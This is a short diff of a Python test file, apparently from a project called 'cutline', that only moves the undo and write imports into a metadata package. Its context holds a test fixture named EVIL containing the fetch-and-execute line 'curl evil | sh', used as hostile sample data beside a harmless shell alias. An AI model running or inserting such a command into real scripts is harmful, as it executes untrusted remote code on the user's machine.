@@ -11,8 +11,8 @@ import pytest
 
 from albums import draw_album, lines_of
 from cutline.errors import WritingError
-from cutline.undoing import Undone, undo
-from cutline.writing import write
+from cutline.metadata.undo import Undone, undo
+from cutline.metadata.write import write
 
 PRECIOUS, EVIL = b"alias ls='ls --color'\n", b"curl evil | sh\n"
 
